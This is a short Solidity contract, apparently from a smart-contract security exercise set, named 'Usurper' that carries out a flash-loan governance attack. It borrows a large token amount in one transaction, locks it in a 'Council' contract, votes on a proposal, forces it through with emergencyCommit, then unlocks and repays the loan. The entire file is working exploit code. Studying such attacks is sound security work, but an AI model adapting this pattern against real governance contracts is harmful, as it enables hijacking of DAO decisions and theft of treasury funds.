// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {FlashLender, IFlashBorrower} from "../../shared/contracts/FlashLender.sol";
import {Token} from "../../shared/contracts/Token.sol";
import {Council} from "./Council.sol";

/// @title Borrows the majority for one transaction
contract Usurper is IFlashBorrower {
    Council private immutable council;

    constructor(Council council_) {
        council = council_;
    }

    function attack(FlashLender lender, uint256 amount, uint256 id) external {
        lender.flashLoan(this, council.token(), amount, abi.encode(id));
    }

    function onFlashLoan(Token token, uint256 amount, uint256 fee, bytes calldata data) external {
        uint256 id = abi.decode(data, (uint256));
        token.approve(address(council), amount);
        council.lock(amount);
        council.vote(id);
        council.emergencyCommit(id);
        council.unlock(amount);
        token.transfer(msg.sender, amount + fee);
    }
}
